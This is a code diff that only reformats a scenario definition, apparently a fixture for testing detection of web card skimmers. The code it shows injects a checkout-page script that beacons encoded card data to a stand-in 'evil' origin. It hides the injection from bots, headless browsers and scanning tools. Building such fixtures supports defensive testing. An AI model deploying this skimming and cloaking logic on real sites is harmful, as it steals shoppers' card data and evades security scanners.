@@ -8,10 +8,17 @@ export default skimmer({
   covers: ['hard: cloaking', 'trigger: server gate'],
   base: 'direct',
   install: (site) => {
-    const code = onPay(js`new Image().src = '${site.origins.evil}/ua.gif?d=' + encodeURIComponent(btoa(card()));`);
+    const code = onPay(
+      js`new Image().src = '${site.origins.evil}/ua.gif?d=' + encodeURIComponent(btoa(card()));`,
+    );
     site.alter('shop/checkout/payment', (html, { headers }) => {
-      const agent = `${headers['user-agent']} ${headers['sec-ch-ua']}`;
-      if (/headless|bot|crawl|curl|python|lighthouse/i.test(agent) || !/Chrome\/\d/.test(agent) || !headers['accept-language']) return html;
+      const agent = [headers['user-agent'], headers['sec-ch-ua']].join(' ');
+      if (
+        /headless|bot|crawl|curl|python|lighthouse/i.test(agent) ||
+        !/Chrome\/\d/.test(agent) ||
+        !headers['accept-language']
+      )
+        return html;
       return html.replace('</body>', () => `<script>${code}</script></body>`);
     });
   },
